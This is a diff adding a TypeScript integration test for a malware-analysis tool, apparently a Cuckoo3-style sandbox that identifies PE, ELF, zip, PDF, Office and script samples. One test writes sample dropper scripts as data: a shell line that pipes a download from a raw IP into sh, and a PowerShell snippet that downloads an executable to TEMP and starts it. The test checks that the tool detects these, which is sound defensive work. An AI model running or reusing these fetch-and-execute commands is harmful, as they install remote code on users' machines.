@@ -1,0 +1,111 @@
+import { afterAll, beforeAll, describe, expect } from "bun:test";
+import { readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { samples, testIf, tools, writeOoxml, writePdf, zipWithPassword, type Samples } from "../../src/process/analyze/samples.ts";
+import { runFalc, tempHome } from "./helpers.ts";
+
+/**
+ * `falc process` through the compiled binary on each kind of sample the built-in plugins know, all made
+ * here from source (gcc, mingw-w64, zip -P, a PDF and an OOXML package written by the test, scripts).
+ * Checked against what the files are, not against the parsers' own output.
+ */
+let H: { home: string; cleanup(): void };
+let S: Samples;
+beforeAll(async () => {
+  H = tempHome();
+  S = await samples();
+});
+afterAll(() => H.cleanup());
+
+interface Summary {
+  analysis_id: string;
+  state: string;
+  target: { filename: string; filetype: string; media_type: string; sha256: string; extrpath: string[]; container: boolean; platforms: { platform: string }[] };
+  paths: { dir: string };
+}
+
+async function processAll(files: string[], extra: string[] = []): Promise<Summary[]> {
+  const r = await runFalc(["process", ...files, ...extra, "--json"], { env: { FALC_HOME: H.home } });
+  expect(r.stderr).not.toMatch(/\n\s+at /); // never a stack trace
+  expect(r.code).toBe(0);
+  const out = JSON.parse(r.stdout);
+  return Array.isArray(out) ? out : [out];
+}
+
+const pre = (s: Summary) => JSON.parse(readFileSync(join(s.paths.dir, "pre.json"), "utf8"));
+const sha256 = (p: string) => new Bun.CryptoHasher("sha256").update(readFileSync(p)).digest("hex");
+
+describe("falc process on each kind of file", () => {
+  testIf(tools.gcc, tools.mingw, tools.mingw32)("PE32+, PE32 GUI, a DLL and an ELF: types, platforms and static data", async () => {
+    const [pe64, pe32, dll, elf] = await processAll([S.pe64!, S.pe32!, S.dll!, S.elf!]);
+    expect(pe64!.target.filetype).toMatch(/^PE32\+ executable \(console\) x86-64/);
+    expect(pe32!.target.filetype).toMatch(/^PE32 executable \(GUI\) Intel 80386/);
+    expect(dll!.target.filetype).toMatch(/^PE32\+ executable \(DLL\)/);
+    expect(elf!.target.filetype).toMatch(/^ELF 64-bit LSB/);
+    expect(pe64!.target.platforms.map((p) => p.platform)).toEqual(["windows"]);
+    expect(elf!.target.platforms.map((p) => p.platform)).toEqual(["linux"]);
+    for (const s of [pe64!, pe32!, dll!, elf!]) expect(s.state).toBe("tasks_pending");
+    // The PE's imports name ws2_32 (it calls WSAStartup); the DLL exports what dll.c defines.
+    const p64 = pre(pe64!).static.pe;
+    expect(p64.pe_imphash).toMatch(/^[0-9a-f]{32}$/);
+    expect(p64.pe_imports.map((i: { dll: string }) => i.dll.toLowerCase())).toContain("ws2_32.dll");
+    expect(pre(dll!).static.pe.pe_exports.length).toBeGreaterThan(0);
+    expect(pre(elf!).static.elf.elf_interpreter).toMatch(/ld-linux/);
+  }, 120_000);
+
+  testIf(tools.zip, tools.mingw)("a password zip: the exe inside is selected, the text file ignored", async () => {
+    const note = join(S.dir, "readme.txt");
+    writeFileSync(note, "nothing to see\n");
+    const zip = await zipWithPassword(join(S.dir, "mail.zip"), [note, S.pe64!], "infected");
+    const [z] = await processAll([zip], ["--password", "infected"]);
+    expect(z!.target.container).toBe(false);
+    expect(z!.target.extrpath).toEqual(["sample64.exe"]);
+    expect(z!.target.filetype).toMatch(/^PE32\+ executable/);
+    expect(z!.target.sha256).toBe(sha256(S.pe64!));
+    const ident = JSON.parse(readFileSync(join(z!.paths.dir, "identification.json"), "utf8"));
+    expect(ident.ignored.map((i: { filename: string }) => i.filename)).toContain("readme.txt");
+    // Pre analysed the selected exe, not the archive.
+    expect(pre(z!).static.pe.pe_imphash).toMatch(/^[0-9a-f]{32}$/);
+  }, 60_000);
+
+  testIf(tools.zip)("a zip with the wrong password: nothing identified, the archive goes on as it is, and the summary says why", async () => {
+    const inner = join(S.dir, "inner.sh");
+    writeFileSync(inner, "#!/bin/sh\necho hi\n");
+    const zip = await zipWithPassword(join(S.dir, "locked.zip"), [inner], "s3cret");
+    const [s] = (await processAll([zip], ["--password", "wrong"])) as (Summary & { identified: boolean; ignored: { filename: string; reason: string }[] })[];
+    // Cuckoo3 (cancel_unidentified off): an unidentified submission goes on to pre as submitted.
+    expect(s!.identified).toBe(false);
+    expect(s!.target.container).toBe(true);
+    expect(s!.ignored).toEqual([{ filename: "inner.sh", reason: expect.stringMatching(/password/) }]);
+    const human = await runFalc(["process", "show", s!.analysis_id], { env: { FALC_HOME: H.home } });
+    expect(human.stdout).toMatch(/^identified +no/m);
+    expect(human.stdout).toMatch(/^ignored +inner\.sh: .*password/m);
+  }, 60_000);
+
+  testIf()("PDF, OOXML (docx, docm), shell and PowerShell scripts, plain text", async () => {
+    const files: Record<string, Uint8Array | string> = {
+      "doc.pdf": writePdf(),
+      "report.docx": writeOoxml("docx"),
+      "macro.docm": writeOoxml("docm"),
+      "run.sh": "#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n",
+      "drop.ps1": "$c = New-Object System.Net.WebClient\n$c.DownloadFile('http://203.0.113.8/a.exe', \"$env:TEMP\\a.exe\")\nStart-Process \"$env:TEMP\\a.exe\"\n",
+      "notes.txt": "just words here\n",
+    };
+    const paths = Object.entries(files).map(([name, data]) => {
+      const p = join(S.dir, name);
+      writeFileSync(p, data);
+      return p;
+    });
+    const [pdf, docx, docm, sh, ps1, txt] = await processAll(paths);
+    expect(pdf!.target.media_type).toBe("application/pdf");
+    expect(pdf!.target.filetype).toMatch(/^PDF document/);
+    expect(docx!.target.media_type).toBe("application/vnd.openxmlformats-officedocument.wordprocessingml.document");
+    expect(docm!.target.media_type).toBe("application/vnd.ms-word.document.macroEnabled.12");
+    expect(sh!.target.filetype).toMatch(/shell script/i);
+    expect(ps1!.target.filetype).toMatch(/powershell/i);
+    expect(txt!.target.media_type).toBe("text/plain");
+    // The script's URL on a raw address is found by the strings plugin.
+    expect(pre(sh!).strings.iocs.urls).toContain("http://203.0.113.7/x");
+    expect(pre(pdf!).strings.iocs.urls.some((u: string) => u.startsWith("http://pdf.falc-test.example.net/"))).toBe(true);
+  }, 60_000);
+});
